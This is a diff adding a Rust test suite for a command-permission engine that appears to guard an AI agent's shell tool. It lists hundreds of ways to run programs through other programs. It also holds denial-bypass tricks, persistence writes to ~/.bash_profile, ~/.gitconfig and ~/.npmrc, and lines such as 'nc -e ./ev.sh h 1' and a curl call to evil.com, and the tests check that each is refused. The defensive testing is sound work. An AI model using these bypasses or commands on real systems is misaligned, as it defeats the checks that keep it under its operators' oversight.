@@ -1,0 +1,260 @@
+//! Programs that run other programs through their arguments: a rule for the program is no rule for what it would run.
+
+use super::{decide, policy};
+use toolpost_core::policy::{Effect, Layer, Origin, Policy, Profile, Rule};
+use toolpost_tools::shell::line;
+
+/// Each is judged under a rule for its own program, and under the rules that its inner shell text would need.
+#[rustfmt::skip]
+const RUN_ANOTHER: &[&str] = &[
+    // git
+    "git merge-index ./ev.sh -a", "git merge-index -o ./ev.sh -a", "git -c core.pager=./ev.sh log", "git -c alias.x='!./ev.sh' x", "git --exec-path=. status", "git --config-env=core.pager=X log",
+    "git -C . merge-index ./ev.sh -a", "git -C . -c core.fsmonitor=./ev.sh status", "git --git-dir=evil.git log", "git --git-dir evil.git status", "git --work-tree=. log", "git -p log", "git --paginate log", "git --namespace=x log", "git --attr-source=x log",
+    "git fetch --upload-pack=./ev.sh .", "git fetch --upload-p ./ev.sh .", "git pull --upload-pack ./ev.sh . x", "git push --receive-pack=./ev.sh . x", "git push --exec=./ev.sh . x", "git push --rec=./ev.sh .", "git ls-remote --upload-pack=./ev.sh .",
+    "git ls-remote --exec=./ev.sh .", "git clone -u ./ev.sh . x", "git clone -qu ./ev.sh . x", "git clone --upload-pack=./ev.sh . x", "git clone -c core.fsmonitor=./ev.sh . x", "git clone --config core.pager=x . x", "git clone --template=evil . x",
+    "git init --template=evil", "git clone ext::./ev.sh x", "git clone 'ext::sh -c evil' x", "git fetch ext::./ev.sh", "git push ext::./ev.sh", "git pull ext::./ev.sh x", "git remote add x ext::./ev.sh", "git clone foo::bar x", "git ls-remote fd::7",
+    "git submodule add ext::./ev.sh", "git archive --remote=. --exec=./ev.sh HEAD", "git fetch-pack --exec=./ev.sh . x", "git fetch-pack --upload-pack=./ev.sh . x", "git send-pack --receive-pack=./ev.sh . x", "git send-pack --exec=./ev.sh .",
+    "git grep -O./ev.sh x", "git grep -nO./ev.sh x", "git grep --open-files-in-pager=./ev.sh x", "git grep --open=./ev.sh x", "git diff --ext-diff", "git log -p --ext-diff", "git show --ext-di", "git difftool -x ./ev.sh", "git difftool --extcmd=./ev.sh",
+    "git difftool --tool=x", "git mergetool --tool=x", "git mergetool", "git rebase --exec ./ev.sh", "git rebase -x ./ev.sh HEAD~1", "git rebase -ix ./ev.sh", "git rebase --ex ./ev.sh", "git bisect run ./ev.sh", "git bisect view ./ev.sh", "git bisect visualize x",
+    "git bisect replay x", "git submodule foreach ./ev.sh", "git submodule --quiet foreach ./ev.sh", "git submodule foreach --recursive ./ev.sh", "git filter-branch --tree-filter ./ev.sh", "git filter-branch", "git for-each-repo --config=x ./ev.sh",
+    "git daemon --access-hook=./ev.sh", "git hook run x", "git send-email --sendmail-cmd=./ev.sh x", "git send-email --smtp-server=./ev.sh x", "git imap-send", "git instaweb --httpd=./ev.sh", "git web--browse -b x", "git help -w x", "git credential fill",
+    "git credential-store get", "git upload-pack .", "git receive-pack .", "git shell -c x", "git http-backend", "git fast-import", "git p4 sync", "git svn fetch", "git cvsimport", "git gui", "git citool", "git maintenance start", "git remote-ext x ./ev.sh",
+    "git remote-fd x", "git mergetool--lib", "git sh-setup", "git merge -s evil x", "git merge --strategy=evil x", "git merge --strategy evil x", "git merge -sevil x", "git pull -s evil", "git rebase -s evil", "git unknown-program", "git ./ev.sh", "git config -e", "git config --edit",
+    "git config core.pager ./ev.sh", "git config --local core.pager ./ev.sh", "git config --global alias.x '!./ev.sh'", "git config --file x a.b c", "git config --add core.hooksPath evil", "git config set core.pager x", "git fsmonitor--daemon start", "git submodule--helper foreach x",
+    "git lfs filter-process", "git scalar register", "git log $x", "git $x", "git -C $x log", "git log \"$x\"", "git diff {--ext-diff,x}", "git merge-index \"$x\" -a",
+    // Programs that take a command.
+    "find . -exec ./ev.sh {} +", "find . -execdir ./ev.sh \\;", "find . -ok ./ev.sh \\;", "find . -okdir ./ev.sh {} \\;", "find . -exec ls \"$x\" -exec ./ev.sh {} \\;", "find . -files0-from x", "xargs ./ev.sh", "xargs -I X -n 20 find .", "xargs --replace ./ev.sh", "xargs sh -c",
+    "env ./ev.sh", "env -i ./ev.sh", "env -S ./ev.sh", "env --split-string=./ev.sh", "env -C evil ./run", "env -vS ./ev.sh", "timeout 5 ./ev.sh", "timeout -k 1 5 ./ev.sh", "nice ./ev.sh", "nohup ./ev.sh", "stdbuf -oL ./ev.sh", "setsid -w ./ev.sh", "ionice -c 2 ./ev.sh", "time ./ev.sh",
+    "flock x ./ev.sh", "flock x -c ./ev.sh", "flock -n x ./ev.sh", "watch ./ev.sh", "watch -x ./ev.sh", "parallel ./ev.sh ::: a", "script -c ./ev.sh", "script -qc ./ev.sh x", "busybox sh ./ev.sh", "busybox touch x", "toybox touch x", "coreutils --coreutils-prog=touch x",
+    "command ./ev.sh", "builtin eval ./ev.sh", "exec ./ev.sh", "coproc ./ev.sh", "nsenter -t 1 ./ev.sh", "unshare ./ev.sh", "chroot . ./ev.sh", "strace ./ev.sh", "gdb -ex 'shell ./ev.sh'", "perf record ./ev.sh", "taskset 1 ./ev.sh", "setarch x86_64 ./ev.sh", "linux64 ./ev.sh",
+    "su -c ./ev.sh", "sudo ./ev.sh", "doas ./ev.sh", "sg x ./ev.sh", "runuser -c ./ev.sh", "systemd-run ./ev.sh", "tmux new ./ev.sh", "screen -dm ./ev.sh", "expect -c 'spawn ./ev.sh'", "unbuffer ./ev.sh", "entr ./ev.sh", "hyperfine ./ev.sh", "valgrind ./ev.sh", "fakeroot ./ev.sh",
+    "ld-linux-x86-64.so.2 ./ev.sh", "/lib64/ld-linux-x86-64.so.2 ./ev.sh", "start-stop-daemon -S -x ./ev.sh", "run-parts evil", "capsh -- -c ./ev.sh", "proxychains ./ev.sh", "direnv exec . ./ev.sh", "chronic ./ev.sh", "nodemon --exec ./ev.sh", "sshpass -p x ./ev.sh", "ssh-agent ./ev.sh", "dbus-run-session ./ev.sh",
+    "uv run ./ev.sh", "poetry run ./ev.sh", "pipenv run ./ev.sh", "bundle exec ./ev.sh", "npm exec ./ev.sh", "npm exec -- ./ev.sh", "pnpm exec ./ev.sh", "yarn exec ./ev.sh", "rustup run stable ./ev.sh", "mise exec -- ./ev.sh", "conda run ./ev.sh", "npx -c ./ev.sh", "npm exec -c ./ev.sh", "nix-shell --run ./ev.sh", "npm explore x -- ./ev.sh", "npm --silent exec ./ev.sh", "uv --quiet run ./ev.sh", "uv --directory evil run ./ev.sh", "npm -g config set script-shell ./ev.sh", "npm --silent set script-shell=./ev.sh", "cargo +nightly watch -s ./ev.sh", "corepack yarn exec ./ev.sh", "lerna exec -- ./ev.sh", "mpirun ./ev.sh", "qemu-x86_64 ./ev.sh", "npm config set script-shell ./ev.sh", "npm set script-shell=./ev.sh", "yarn config set x y", "gh alias set x y", "gh config set pager ./ev.sh", "go env -w CC=./ev.sh", "cargo watch -s ./ev.sh", "gh repo clone a/b -- --upload-pack=./ev.sh",
+    // Programs with an option or a language of their own that runs one.
+    "tar -cf x y --checkpoint-action=exec=./ev.sh", "tar xf x --to-command=./ev.sh", "tar cf x -I ./ev.sh y", "tar xf x --use-compress-program ./ev.sh", "tar -F ./ev.sh -cf x y", "tar --info-script=./ev.sh -cf x y", "tar cf x -T list", "tar cf x --files-from=list", "tar --rsh-command=./ev.sh -xf h:x",
+    "sort --compress-program=./ev.sh x", "sort --compress-prog ./ev.sh x", "split --filter=./ev.sh x", "awk 'BEGIN{system(\"./ev.sh\")}'", "awk '{print | \"./ev.sh\"}' x", "awk -f x.awk", "gawk -e 'BEGIN{system(\"x\")}'", "awk '\"x\" | getline'", "sed '1e ./ev.sh' x", "sed s/a/b/e x", "sed -f x.sed y", "sed 's/a/b/w x' y", "sed -n '/x/w y' z",
+    "vim -c ':!./ev.sh'", "vi x", "nvim -es x", "ed x", "emacs --eval x", "man -P ./ev.sh ls", "man --pager=./ev.sh ls", "man -H./ev.sh ls", "less '+!./ev.sh' x", "more '+!./ev.sh' x", "make -f evil.mk", "make --file=evil.mk", "make -C evil", "make SHELL=./ev.sh", "make CC=./ev.sh", "make --eval='x:;./ev.sh' x", "make -I evil",
+    "ssh -o ProxyCommand=./ev.sh h", "ssh -oProxyCommand=./ev.sh h", "ssh -F x h", "scp -S ./ev.sh a h:b", "sftp -D ./ev.sh", "rsync -e ./ev.sh a h:b", "rsync --rsh=./ev.sh a h:b", "rsync -ave ./ev.sh a b", "rsync --rsync-path=./ev.sh a b", "rg --pre ./ev.sh x", "rg --pre=./ev.sh x", "fd -x ./ev.sh", "fd --exec ./ev.sh", "fd -X ./ev.sh",
+    "bat --pager=./ev.sh x", "ag --pager ./ev.sh x", "cargo --config 'build.rustc=\"./ev.sh\"' build", "cargo build --config x", "go build -toolexec ./ev.sh", "go test -exec ./ev.sh", "go vet -vettool=./ev.sh", "gcc -wrapper ./ev.sh x.c", "gcc -B evil x.c", "cc -specs=x y.c", "clang -fplugin=x y.c", "rustc -C linker=./ev.sh x.rs", "zip x y -T -TT ./ev.sh",
+    "nc -e ./ev.sh h 1", "ncat --exec ./ev.sh h 1", "socat - EXEC:./ev.sh", "tcpdump -z ./ev.sh", "psql -c '\\! ./ev.sh'", "sqlite3 x '.shell ./ev.sh'", "sqlite3 x '.system ./ev.sh'", "mysql -e '\\! ./ev.sh'", "curl -K x", "wget --use-askpass=./ev.sh u", "wget -e x u", "install --strip-program=./ev.sh -s a b", "npm test --script-shell=./ev.sh", "npm --node-options=x test",
+    // Shells that read what they run.
+    "bash", "sh", "dash", "bash -s", "bash -", "bash -i", "bash /dev/stdin", "bash /dev/fd/3", "sh /proc/self/fd/0", "bash <(ls)", "bash --rcfile x", "bash --init-file x -i", "bash -O extglob -c ls", "zsh -c ls", "ksh x", "fish -c ls", "csh x", "rbash -c ls", "source /dev/stdin", ". /dev/fd/0", "source <(ls)", "source $x", "bash $x", "bash -c $x",
+];
+
+fn rule_for(line: &str) -> String {
+    format!("{} *", line.split(' ').next().unwrap())
+}
+
+#[test]
+fn guarantee_18_a_rule_for_a_program_is_none_for_what_it_runs() {
+    let passed: Vec<String> = RUN_ANOTHER
+        .iter()
+        .flat_map(|line| [(*line).to_owned(), format!("ls; {line}"), format!("/usr/bin/{line}")])
+        .filter(|line| {
+            decide(
+                &policy(&[&rule_for(line), "ls *", "wc *", &rule_for(line.trim_start_matches("ls; "))]),
+                line,
+            ) == Effect::Allow
+        })
+        .map(|line| format!("{line:?}: {:?}", line::accesses(&line)))
+        .collect();
+    assert!(passed.is_empty(), "{} of {}:\n{}", passed.len(), RUN_ANOTHER.len(), passed.join("\n"));
+    println!(
+        "measure: guarantee 18: {} ways to run a program through another, each in 3 places, 0 passed",
+        RUN_ANOTHER.len()
+    );
+}
+
+/// What these programs do all day passes the same rules.
+#[rustfmt::skip]
+const ORDINARY: &[&str] = &[
+    "git status", "git log --oneline -5", "git diff HEAD~1 -- src", "git add -A", "git commit -m 'feat: x::y'", "git commit -m \"$(cat x)\"", "git fetch origin", "git pull --rebase", "git push -u origin main", "git clone https://example.com/x.git",
+    "git clone git@example.com:a/b.git", "git rebase origin/main", "git rebase --onto a b", "git merge --no-ff x", "git merge -s ours x", "git bisect start", "git bisect good v1", "git submodule update --init --recursive", "git submodule status", "git stash list", "git grep -n x",
+    "git show HEAD", "git blame src/x.rs", "git config --get user.name", "git config user.name", "git config --list", "git config --global --get user.email", "git worktree add ../x", "git archive -o out.tar HEAD", "git remote -v", "git remote add origin https://example.com/x", "git lfs pull",
+    "git -C sub status", "git --no-pager log", "git tag -a v1 -m x", "git cherry-pick abc", "git reset --hard HEAD~1", "git clean -fd", "git ls-files '*.rs'", "git rev-parse --show-toplevel", "git describe --tags", "git format-patch -1 -o out", "git apply x.patch", "git checkout -b x",
+    "find . -name '*.rs' -type f", "find . -name x -delete", "tar -czf x.tgz src", "tar xf x.tar", "sort -u x", "split -l 10 x", "awk '{print $1}' x", "awk -F: '{print $2}' x", "sed -n 1,5p x", "sed -i 's/a/b/' x", "sed 's/[^a-z]*/x/g' y", "sed -i '/x/a more' y", "make test", "make -j4",
+    "rsync -av a b", "rg -n x src", "fd x", "cargo build --release", "go test ./...", "gcc -O2 -o x x.c", "zip -r x.zip y", "psql -c 'select 1'", "sqlite3 x 'select 1'", "curl -s https://example.com", "npm test", "npm run build", "npm config get registry", "npm config list", "npm --silent test", "uv --quiet sync", "cargo +nightly fmt", "gh pr list", "go env GOPATH", "pip config list", "bash x.sh", "bash scripts/x.sh --y", "source venv/bin/activate",
+    "bash -n x.sh", "less x", "man ls", "rustc x.rs",
+];
+
+#[test]
+fn what_such_programs_do_all_day_passes() {
+    let refused: Vec<String> = ORDINARY
+        .iter()
+        .filter(|line| decide(&policy(&[&rule_for(line), "cat *"]), line) != Effect::Allow)
+        .map(|line| format!("{line:?}: {:?}", line::read(line)))
+        .collect();
+    assert!(refused.is_empty(), "{} of {}:\n{}", refused.len(), ORDINARY.len(), refused.join("\n"));
+}
+
+/// The examples of allow rules that were turned into any command, each under the rules that it was tried with.
+#[test]
+fn guarantee_18_examples_of_narrow_rules() {
+    for (rules, folder, line) in [
+        (&["ls *"][..], "", "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"),
+        (&["ls *", "bash -lc true"], "", "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"),
+        (&["ls *", "echo *"], "", "ls; echo 'touch pwned' > \"$HOME/.bash_profile\"; bash -lc ls"),
+        (&["git status*"], "", "echo '[core] fsmonitor=./evil' > ~/.gitconfig; git status"),
+        (
+            &["git status*"],
+            "",
+            "printf '[core]\\nfsmonitor=./evil' >> ~/.config/git/config && git status --short",
+        ),
+        (&["npm test"], "", "echo script-shell=./evil > ~/.npmrc; npm test"),
+        (&["npm test"], "", "cd ~ && echo script-shell=./evil > .npmrc; npm test"),
+        (&["./run *"], "evil", "./run x"),
+        (&["./run *"], "", "cd evil && ./run x"),
+        (&["./run *"], "", "cd evil\n./run x"),
+        (&["./run *"], "sub/../evil", "./run x"),
+        (&["git *"], "", "git merge-index ./ev.sh -a"),
+        (&["find *"], "", "find . ''{},-exec,touch,pwned,\\;}"),
+        (&["find *", "echo *"], "", "echo -exec touch pwned \\; | xargs -I X -n 20 find ."),
+    ] {
+        let accesses = line::accesses_in(folder, line);
+        let request = toolpost_core::policy::Request { tool: "bash", accesses: &accesses };
+        assert_ne!(policy(rules).decide(&request).effect(), Effect::Allow, "{line} {accesses:?}");
+    }
+}
+
+/// The examples of denials that were walked around.
+#[test]
+fn guarantee_18_examples_of_denials() {
+    for (action, rule, folder, line) in [
+        ("bash", "touch *", "", "/bin/../bin/touch pwned"),
+        ("bash", "touch *", "", "cd /usr/bin && ./touch pwned"),
+        ("bash", "touch *", "", "cd /usr && bin/touch pwned"),
+        ("bash", "touch *", "", "echo touch pwned | bash"),
+        ("bash", "touch *", "", "bash <<< 'touch pwned'"),
+        ("bash", "touch *", "", "\\touch pwned"),
+        ("bash", "touch *", "", "\"to\"uch pwned"),
+        ("bash", "touch *", "", "$'touch' pwned"),
+        ("bash", "touch *", "", "command touch pwned"),
+        ("bash", "touch *", "", "busybox touch pwned"),
+        ("bash", "touch *", "", "{touch,pwned}"),
+        ("bash", "touch *", "", "/proc/self/root/bin/touch pwned"),
+        ("bash", "touch *", "", "/lib64/ld-linux-x86-64.so.2 /bin/touch pwned"),
+        ("bash", "touch *", "", "x=touch; $x pwned"),
+        ("bash", "touch *", "", "find . -maxdepth 0 -exec touch pwned +"),
+        ("bash", "git push *", "", "git -C . push"),
+        ("bash", "git push *", "", "git --no-pager -C . push origin"),
+        ("bash", "git push *", "", "git -c a=b push"),
+        ("bash", "git push *", "", "git --git-dir=.git push"),
+        ("bash", "git push *", "", "npm exec git push"),
+        ("bash", "npm publish*", "", "npm --silent publish"),
+        ("bash", "curl *evil*", "", "x=evil.com; curl \"$x\""),
+        ("bash", "curl *evil*", "", "curl 'http://evil.com'"),
+        ("bash", "bash *", "", "bash -c ls"),
+        ("bash", "eval *", "", "eval ls"),
+        ("bash", "env *", "", "env ls"),
+        ("bash", "xargs *", "", "ls | xargs wc"),
+        ("bash", "./evil/run *", "evil", "./run x"),
+        ("bash", "./evil/run *", "", "cd evil; ./run x"),
+        ("bash", "evil/run *", "", "./evil/../evil/run x"),
+        ("exec", "touch *", "", "/bin/touch pwned"),
+        ("exec", "eval *", "", "eval ls"),
+        ("Bash", "touch *", "", "touch pwned"),
+        ("run_shell_command", "touch *", "", "touch pwned"),
+        ("exec_command", "touch *", "", "touch pwned"),
+        ("shell", "touch *", "", "touch pwned"),
+    ] {
+        let origin = Origin::new(Layer::User, "rules.toml", 1);
+        let rule = Rule::new(Effect::Deny, action, rule, origin).unwrap();
+        let policy = Policy::profile(Profile::Privileged).with_rules(Layer::User, vec![rule]);
+        let accesses = line::accesses_in(folder, line);
+        let request = toolpost_core::policy::Request { tool: "bash", accesses: &accesses };
+        assert_eq!(policy.decide(&request).effect(), Effect::Deny, "{line} {accesses:?}");
+    }
+}
+
+/// What cannot be told is denied by every rule that could apply, wherever it stands among others.
+#[test]
+fn guarantee_40_what_cannot_be_told_meets_every_denial() {
+    let origin = || Origin::new(Layer::User, "rules.toml", 1);
+    let rule = |effect, text| Rule::new(effect, "bash", text, origin()).unwrap();
+    for (rules, expected) in [
+        (vec![(Effect::Deny, "rm *")], Effect::Deny),
+        (vec![(Effect::Ask, "git *"), (Effect::Deny, "rm *")], Effect::Deny),
+        (vec![(Effect::Allow, "rm x"), (Effect::Deny, "rm *")], Effect::Deny),
+        (vec![(Effect::Ask, "git *")], Effect::Ask),
+        (vec![(Effect::Allow, "*"), (Effect::Deny, "rm *")], Effect::Allow),
+        (vec![(Effect::Ask, "git *"), (Effect::Deny, "git push *")], Effect::Ask),
+    ] {
+        let rules: Vec<Rule> = rules.into_iter().map(|(effect, text)| rule(effect, text)).collect();
+        let policy = Policy::profile(Profile::Privileged).with_rules(Layer::User, rules.clone());
+        assert_eq!(decide(&policy, "eval \"$x\""), expected, "{rules:?}");
+    }
+    for rules in [&["*a*"][..], &["eval *", "$x", "ls *"]] {
+        assert_ne!(decide(&policy(rules), "eval \"$x\""), Effect::Allow, "{rules:?}");
+    }
+}
+
+/// The same examples as calls of the tool: each is refused before anything runs, and nothing came of it.
+#[test]
+fn guarantee_18_examples_as_calls() {
+    use crate::bash::{executor, ground, session};
+    use serde_json::json;
+    use std::os::unix::fs::PermissionsExt;
+    let ground = ground();
+    let root = ground.path();
+    for name in ["ev.sh", "run", "evil/run"] {
+        std::fs::create_dir_all(root.join("evil")).unwrap();
+        std::fs::write(root.join(name), "#!/bin/sh\ntouch pwned\n").unwrap();
+        std::fs::set_permissions(root.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    std::fs::write(root.join("run"), "#!/bin/sh\necho ran\n").unwrap();
+    let outside = root.join("../outside").display().to_string();
+    let call = |policy: Policy, arguments: serde_json::Value| {
+        let executor = executor(policy, toolpost_tools::shell::Settings::default());
+        let ctx = session(root).build();
+        crate::run(async { executor.run(&ctx, toolpost_core::Call::new("bash", arguments)).await })
+    };
+    for (rules, arguments) in [
+        (&["ls *"][..], json!({"command": "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"})),
+        (&["ls *"], json!({"command": format!("ls > {outside}")})),
+        (&["ls *"], json!({"command": "ls > ../outside", "workdir": "."})),
+        (&["git status*"], json!({"command": "echo '[core] fsmonitor=./ev.sh' > ~/.gitconfig; git status"})),
+        (&["npm test"], json!({"command": "echo script-shell=./ev.sh > ~/.npmrc; npm test"})),
+        (&["./run *"], json!({"command": "./run x", "workdir": "evil"})),
+        (&["./run *"], json!({"command": "./run x", "workdir": root.join("evil").display().to_string()})),
+        (&["./run *"], json!({"command": "cd evil && ./run x"})),
+        (&["git *"], json!({"command": "git merge-index ./ev.sh -a"})),
+        (&["find *"], json!({"command": "find . ''{},-exec,touch,pwned,\\;}"})),
+        (&["find *"], json!({"command": "echo -exec touch pwned \\; | xargs -I X -n 20 find . -maxdepth 0"})),
+    ] {
+        let outcome = call(policy(rules), arguments.clone());
+        let code = crate::code(&outcome);
+        assert!(
+            matches!(code, "PERMISSION_DENIED" | "PROTECTED_FILE"),
+            "{arguments} {}",
+            crate::shown(&outcome)
+        );
+        assert!(!root.join("pwned").exists() && !root.join("evil/pwned").exists(), "{arguments}");
+    }
+    for (action, rule, command) in [
+        ("Bash", "touch *", "touch pwned"),
+        ("bash", "touch *", "/bin/../bin/touch pwned"),
+        ("bash", "touch *", "cd /usr/bin && ./touch \"$OLDPWD/pwned\""),
+        ("bash", "touch *", "echo touch pwned | bash"),
+        ("bash", "git push *", "git -C . push"),
+    ] {
+        let rule = Rule::new(Effect::Deny, action, rule, Origin::new(Layer::User, "rules.toml", 1)).unwrap();
+        let policy = crate::bash::standard_and_exec().with_rules(Layer::User, vec![rule]);
+        let outcome = call(policy, json!({ "command": command }));
+        assert_eq!(crate::code(&outcome), "PERMISSION_DENIED", "{command} {}", crate::shown(&outcome));
+        assert!(!root.join("pwned").exists(), "{command}");
+    }
+    // What the rules are for still works, also in a folder of its own and by an absolute path of the workspace.
+    for (rules, arguments, expected) in [
+        (&["./run *"][..], json!({"command": "./run x"}), "ran\n"),
+        (&["./evil/run *"], json!({"command": "./run x", "workdir": "evil"}), "[no output, exit code 0]"),
+        (&["./run *"], json!({"command": "./run x", "workdir": root.display().to_string()}), "ran\n"),
+        (&["./run *"], json!({"command": root.join("run").display().to_string()}), "ran\n"),
+        (
+            &["echo *"],
+            json!({"command": format!("echo hi > {}", root.join("a.txt").display())}),
+            "[no output, exit code 0]",
+        ),
+    ] {
+        assert_eq!(crate::shown(&call(policy(rules), arguments.clone())), expected, "{arguments}");
+    }
+}
